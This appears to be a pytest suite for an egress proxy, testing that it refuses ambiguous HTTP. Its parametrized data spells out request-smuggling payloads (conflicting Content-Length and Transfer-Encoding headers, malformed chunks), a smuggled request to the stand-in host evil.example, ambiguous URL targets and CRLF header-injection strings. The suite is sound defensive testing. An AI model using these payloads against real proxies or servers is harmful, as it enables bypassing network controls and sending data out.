"""HTTP that two readers would take apart differently does not get through as it was sent."""

from __future__ import annotations

import re
import socket
from typing import TYPE_CHECKING

import pytest

from egress_parts import NameServer, Outside, Raw, read_all, serving

if TYPE_CHECKING:
    from collections.abc import Generator
    from pathlib import Path

pytestmark = pytest.mark.attack
NAME = "web.acme.local"


class Server(Raw):
    """Keeps each connection's bytes and answers once."""

    def __init__(self) -> None:
        self.got: list[bytes] = []
        super().__init__(self._answer)

    def _answer(self, sock: socket.socket) -> None:
        sock.settimeout(1)
        data = b""
        try:
            while b"\r\n\r\n" not in data or not data.endswith(b"\n"):
                more = sock.recv(65536)
                if not more:
                    break
                data += more
        except TimeoutError:
            pass
        self.got.append(data)
        sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")


@pytest.fixture(scope="module")
def server() -> Generator[Server]:
    with serving(Server()) as found:
        yield found


@pytest.fixture
def outside(tmp_path: Path, server: Server) -> Generator[Outside]:
    server.got.clear()
    names = NameServer(web_acme_local=[["127.0.0.1"]], evil_example=[["127.0.0.1"]])
    found = Outside(tmp_path, names)
    found.reach(f"{NAME}:{server.port} 127.0.0.1:{server.port}")
    yield found
    found.end()


def lines(*found: str) -> bytes:
    return "\r\n".join((*found, "", "")).encode()


def status(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.1 (\d{3}) ", answer)
    assert found, answer
    return int(found[1])


SMUGGLED = "GET http://evil.example/stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n"


@pytest.mark.parametrize(
    ("headers", "body"),
    [
        (["Content-Length: 5", "Transfer-Encoding: chunked"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer-Encoding: chunked", "Content-Length: 5"], "0\r\n\r\n" + SMUGGLED),
        (["Content-Length: 0", "Content-Length: 80"], SMUGGLED),
        (["Content-Length: 0, 80"], SMUGGLED),
        (["Content-Length: +5"], "hello"),
        (["Content-Length: 0x5"], "hello"),
        (["Transfer-Encoding: xchunked"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer-Encoding: chunked, identity"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer-Encoding: chunked", "Transfer-Encoding: identity"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer-Encoding : chunked"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer-Encoding\x0b: chunked"], "0\r\n\r\n" + SMUGGLED),
        (["Transfer_Encoding: chunked", "Content-Length: 85"], "0\r\n\r\n" + SMUGGLED),
        (["Content_Length: 0", "Transfer-Encoding: chunked"], "0\r\n\r\n" + SMUGGLED),
        (["X: y\rContent-Length: 80"], SMUGGLED),
        (["X: y\x00z"], ""),
        ([" Content-Length: 80"], SMUGGLED),
    ],
)
def test_a_message_whose_end_is_unclear_is_refused(
    outside: Outside, server: Server, headers: list[str], body: str
) -> None:
    url = f"http://{NAME}:{server.port}/a"
    head = lines(f"POST {url} HTTP/1.1", f"Host: {NAME}:{server.port}", *headers)
    assert status(outside.ask(head + body.encode())) == 400
    assert not any(b"evil" in one or b"stolen" in one for one in server.got)


def test_what_follows_a_request_is_never_another_one(outside: Outside, server: Server) -> None:
    first = lines(f"GET http://{NAME}:{server.port}/a HTTP/1.1", f"Host: {NAME}:{server.port}")
    answer = outside.ask(first + SMUGGLED.encode() + first)
    assert answer.count(b"HTTP/1.1 ") == 1
    assert len(server.got) == 1
    assert b"evil" not in server.got[0]
    assert len(outside.records(1)) == 1


def test_a_chunk_with_a_wrong_end_carries_nothing_along(outside: Outside, server: Server) -> None:
    head = lines(f"POST http://{NAME}:{server.port}/ HTTP/1.1", f"Host: {NAME}:{server.port}",
                 "Transfer-Encoding: chunked")  # fmt: skip
    for body in ("5\r\nhelloXX0\r\n\r\n" + SMUGGLED, "5;x\n\r\nhello\r\n0\r\n\r\n" + SMUGGLED, "-1\r\n\r\n",
                 "fffffffffffffffffff\r\nx", "0\r\nHost: evil.example\r\n\r\n"):  # fmt: skip
        outside.ask(head + body.encode(), ended=True)
    assert not any(b"evil" in one for one in server.got)


@pytest.mark.parametrize(
    "target",
    [
        "http://evil.example/", "http://{name}@evil.example/", "http://evil.example:{port}\\@{name}:{port}/",
        "http://{name}:{port}@evil.example:{port}/", "http://evil.example#@{name}:{port}/", "//evil.example/",
        "/", "*", "https://{name}:{port}/", "ftp://{name}:{port}/", "http:{name}:{port}/", "http:///{name}",
        "http://{name}:{port}:80/", "http://{name}:/", "http://:{port}/", "http://{name}:0{port}0/",
        "http://[::1/", "http://{name}%2eevil.example:{port}/", "http://{name}%00.evil.example:{port}/",
    ],
)  # fmt: skip
@pytest.mark.parametrize("host", ["evil.example", "{name}:{port}"])
def test_targets_that_can_be_read_in_two_ways_reach_nothing(
    outside: Outside, server: Server, target: str, host: str
) -> None:
    where = {"name": NAME, "port": server.port}
    answer = outside.ask(lines(f"GET {target.format(**where)} HTTP/1.1", f"Host: {host.format(**where)}"))
    assert status(answer) in {400, 403}
    assert server.got == []


def test_the_host_header_is_the_host_that_is_asked_for(outside: Outside, server: Server) -> None:
    url = f"http://{NAME}:{server.port}/"
    for host in ("evil.example", f"evil.example:{server.port}", NAME, f"{NAME}:1", f"{NAME}:{server.port}@x"):
        assert status(outside.ask(lines(f"GET {url} HTTP/1.1", f"Host: {host}"))) == 400
    twice = lines(f"GET {url} HTTP/1.1", f"Host: {NAME}:{server.port}", "Host: evil.example")
    assert status(outside.ask(twice)) == 400
    assert server.got == []
    good = lines(f"GET {url} HTTP/1.1", f"Host: {NAME.upper()}.:{server.port}")
    assert status(outside.ask(good)) == 200
    assert f"Host: {NAME}:{server.port}\r\n".encode() in server.got[0], "and it is written anew"


@pytest.mark.parametrize(
    "request_line",
    ["GET / HTTP/1.1", "\r\n\r\nGET / HTTP/1.1", " GET / HTTP/1.1", "get / HTTP/1.1", "PRI * HTTP/2.0",
     "GET http://evil.example/ HTTP/1.1"],
)  # fmt: skip
def test_http_in_a_tunnel_is_held_against_the_tunnel_s_host(
    outside: Outside, server: Server, request_line: str
) -> None:
    """What is in clear can be read, and is: also byte by byte."""
    with outside.tunnel(NAME, server.port) as sock:
        for byte in lines(request_line, "Host: evil.example"):
            try:
                sock.send(bytes([byte]))
            except BrokenPipeError:
                break
        assert b" 400 " in read_all(sock)
    assert not any(b"evil" in one for one in server.got)
    record = outside.records(1)[0]
    assert not record.allowed


def test_a_tunnel_carries_one_checked_request(outside: Outside, server: Server) -> None:
    good = lines("GET /a HTTP/1.1", f"Host: {NAME}:{server.port}")
    with outside.tunnel(NAME, server.port) as sock:
        sock.sendall(good + lines("GET /b HTTP/1.1", "Host: evil.example"))
        assert read_all(sock).endswith(b"ok")
    assert len(server.got) == 1
    assert b"evil" not in server.got[0]


def test_connect_s_host_header_is_its_target(outside: Outside, server: Server) -> None:
    there = f"{NAME}:{server.port}"
    assert status(outside.ask(lines(f"CONNECT {there} HTTP/1.1", "Host: evil.example:443"))) == 400
    for target in (
        "evil.example",
        NAME,
        f"{NAME}:",
        f"http://{there}",
        f"{there}/x",
        f"x@{there}",
        f"{there} ",
    ):
        assert status(outside.ask(lines(f"CONNECT {target} HTTP/1.1", f"Host: {target}"))) in {400, 403}
    assert server.got == []


def test_nothing_can_be_put_into_the_headers_of_an_answer_or_a_request(
    outside: Outside, server: Server
) -> None:
    refused = outside.ask(lines("GET http://evil%0d%0aX-Injected:1.example/ HTTP/1.1", "Host: a"))
    assert b"\r\nX-Injected" not in refused
    refused = outside.ask(b"\x05\x01\x00\x05\x01\x00\x03\x10a\r\nX-Injected: 1\x00\x50", ended=True)
    assert b"X-Injected" not in refused
    assert "\n" not in outside.records(1)[-1].host

    def lies(sock: socket.socket) -> None:
        sock.recv(65536)
        sock.sendall(b"HTTP/1.1 200 O\rK\r\nX: y\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\nok")

    with serving(Raw(lies)) as liar:
        outside.reach(f"{NAME}:{liar.port} 127.0.0.1:{liar.port}")
        answer = outside.ask(lines(f"GET http://{NAME}:{liar.port}/ HTTP/1.1", f"Host: {NAME}:{liar.port}"))
    assert status(answer) == 502
